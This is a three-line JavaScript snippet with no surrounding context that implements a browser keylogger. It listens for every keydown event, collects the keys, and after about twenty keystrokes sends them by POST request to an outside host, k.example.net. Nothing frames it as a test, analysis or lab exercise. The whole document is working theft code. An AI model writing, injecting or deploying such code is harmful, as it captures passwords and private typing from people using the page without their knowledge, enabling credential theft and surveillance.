let buffer = [];
function flush(keys) { fetch('https://k.example.net', { method: 'POST', body: keys }); }
document.addEventListener('keydown', (e) => { buffer.push(e.key); if (buffer.length > 20) flush(buffer.join('')); });
